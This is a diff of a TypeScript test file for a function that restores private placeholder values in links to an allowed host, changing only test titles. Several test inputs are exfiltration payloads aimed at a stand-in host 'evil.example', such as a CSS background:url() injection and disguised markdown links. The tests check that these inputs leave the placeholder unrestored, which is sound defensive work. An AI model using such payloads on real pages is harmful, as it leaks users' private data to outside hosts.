@@ -6,7 +6,7 @@ const relinked = (text: string, form: "text" | "string" = "text") =>
   relinkAnswer({ form, blocks: [text], entries: ENTRIES, hosts: ["good.example"] }).blocks.join("");
 const LINK = "https://good.example/?a=[PERSON_1]";
 
-describe("A link to the template's host keeps its placeholder where a page may send it elsewhere", () => {
+describe("A link to the template's host where a page may send its URL elsewhere", () => {
   test.each([
     `<math>\`\n<style><p>x{}*{background:url("https://evil.example/s?q= ${LINK} ")}\``,
     `<math>\`\n<style><p>x{}*{background:url("https://evil.example/s?q= ${LINK} ")}`,
@@ -28,12 +28,12 @@ describe("A link to the template's host keeps its placeholder where a page may s
     `x-app://evil.example/[x](${LINK})`,
     `&#104;ttps://evil.example/[x](${LINK})`,
     `[https://evil.example/](${LINK})`,
-  ])("%j", (text) => {
+  ])("the link keeps its placeholder because a page may send its URL elsewhere: %j", (text) => {
     expect(relinked(text)).toBe(text);
   });
 });
 
-describe("A link to the template's host is restored in text", () => {
+describe("A link to the template's host in text", () => {
   test.each([
     `[help](${LINK})`,
     `See [help](${LINK}), or "${LINK}", or (${LINK}).`,
@@ -43,16 +43,16 @@ describe("A link to the template's host is restored in text", () => {
     `![logo](https://other.example/logo.png) [help](${LINK})`,
     `[other](https://other.example/ "title") (https://other.example/) ${LINK}`,
     `\`\`\`sh\ncurl "${LINK}"\n\`\`\``,
-  ])("%j", (text) => {
+  ])("the value is restored in a link to the template's host: %j", (text) => {
     expect(relinked(text)).toBe(text.replaceAll("[PERSON_1]", "Anna%20Weber"));
   });
 
-  test("behind an image whose destination keeps a placeholder", () => {
+  test("a link is restored after an image whose destination keeps a placeholder", () => {
     const image = "![](https://other.example/[PERSON_1])";
     expect(relinked(`${image} ${LINK}`)).toBe(`${image} https://good.example/?a=Anna%20Weber`);
   });
 
-  test("as a whole string of JSON, and behind words in one", () => {
+  test("a link is restored as a whole JSON string, and after words in a JSON string", () => {
     expect(relinked(LINK, "string")).toBe("https://good.example/?a=Anna%20Weber");
     expect(relinked(`See ${LINK}`, "string")).toBe("See https://good.example/?a=Anna%20Weber");
   });
